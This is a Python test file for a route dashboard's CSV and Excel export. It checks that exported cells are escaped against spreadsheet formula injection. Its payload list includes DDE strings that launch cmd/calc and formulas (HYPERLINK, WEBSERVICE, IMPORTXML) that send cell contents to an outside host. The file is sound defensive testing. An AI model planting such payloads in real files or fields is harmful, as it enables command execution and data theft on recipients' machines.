"""No text that leaves the building runs as a formula."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboard.domain import Formats, Order, Plan, RowProblem, Unassigned
from dashboard.domain.plans import Reason
from dashboard.export import (
    csv_bytes,
    driver_lists,
    driver_workbook,
    lists_frame,
    plan_files,
    rejected_frame,
    routes_frame,
    safe_text,
    stops_frame,
    unassigned_frame,
)
from tests.build import at, order, plan_of, problem, shift

TRIGGERS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.org"), "//a")',
    '=WEBSERVICE("http://example.org")',
    "==1",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@=1",
    "\t=1+1",
    "\t+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u2003@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\u2066-1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=1+1;=2+2",
    "a;=1+1",
    "a\n=1+1",
    'a"\n=1+1',
    "a\t=1+1",
    "a;  @SUM(1)",
    '";=1+1;"',
    '=1+1","=2+2',
    '=DDE("cmd";"/C calc";"!A0")',
    "%0A=1+1 \x1b=2",
    "-",
    "=" * 300,
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_any_file_begins_like_a_formula(payload: str) -> None:
    plan = _plan_full_of(payload)
    lists = driver_lists(plan, Formats())
    frames = (stops_frame, routes_frame, unassigned_frame, rejected_frame)
    for frame in (*(make(plan) for make in frames), lists_frame(lists)):
        content = csv_bytes(frame)
        for cell in (*_csv_cells(content), *_csv_cells(content, delimiter=";")):
            _assert_harmless(cell)
    _assert_no_formula(driver_workbook(plan, lists, ["#112233"], Formats()))


def test_the_text_itself_is_kept_behind_the_apostrophe() -> None:
    plan = _plan_full_of("=1+1")
    cells = _csv_cells(csv_bytes(lists_frame(driver_lists(plan, Formats()))))
    assert cells.count("'=1+1") == 10


@pytest.mark.parametrize("text", ["", "Café", "1-2", "a=b", "'02139", "00120", "2026-03-10T09:00"])
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert safe_text(text) == text


def test_a_text_in_danger_keeps_every_sign_behind_an_apostrophe() -> None:
    assert safe_text("=1+1") == "'=1+1"
    assert safe_text("  -5 °C") == "'  -5 °C"


def test_line_ends_and_forbidden_signs_become_what_a_workbook_can_hold() -> None:
    assert safe_text("a\r\nb\rc") == "a\nb\nc"
    assert safe_text("a\x07b\ud800") == "a\ufffdb\ufffd"


def test_numbers_stay_numbers_in_csv() -> None:
    frame = pd.DataFrame({"lat": [-22.8], "n": [-3], "text": ["-3"], "late": [True]})
    assert csv_bytes(frame) == b"lat,n,text,late\n-22.8,-3,'-3,True\n"


def test_only_the_list_for_people_carries_a_byte_order_mark() -> None:
    files = dict(plan_files(_plan_full_of("x"), Formats()))
    marked = [name for name, content in files.items() if content.startswith(b"\xef\xbb\xbf")]
    assert marked == ["driver-lists.csv"]


def test_tables_are_written_nowhere_else() -> None:
    package = Path(__file__).resolve().parents[2] / "dashboard"
    for source in package.rglob("*.py"):
        code = source.read_text(encoding="utf-8")
        if source.relative_to(package).as_posix() != "export/safe.py":
            for call in (".to_csv(", ".to_excel(", "csv.writer(", "csv.DictWriter(", "book.save("):
                assert call not in code, f"{source.name} writes a table by {call}"


def _plan_full_of(payload: str) -> Plan:
    danger = replace(
        order("o", 1),
        id=payload,
        customer=payload,
        address=payload,
        phone=payload,
        email=payload,
        notes=payload,
        source=payload,
    )
    named = replace(order("o2", 2), customer="", notes=payload)
    left = Order(f"{payload}!", danger.point, customer=payload, notes=payload)
    late = replace(order("o3", 3, windows=[("07:00", "08:00")]), customer=payload)
    fleet = [replace(shift("s"), driver=payload, class_name=payload)]
    plan = plan_of(problem([danger, named, late, left], fleet), {"s": [payload, "o2", "o3"]})
    assert plan.routes[0].departure >= at("08:00")
    return replace(
        plan,
        unassigned=(Unassigned(left.id, Reason.FLEET_FULL_TIME, payload),),
        rejected=(RowProblem(payload, 2, payload, payload, payload, payload),),
    )


def _csv_cells(content: bytes, delimiter: str = ",") -> list[str]:
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    return [cell for row in rows[1:] for cell in row]


def _assert_harmless(cell: str) -> None:
    if not _is_number(cell):
        seen = cell.lstrip().lstrip("\u200b\ufeff\u202e\u2066").lstrip()
        assert not cell.startswith(TRIGGERS), cell
        assert not seen.startswith(TRIGGERS), cell


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _assert_no_formula(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    _assert_harmless(cell.value)
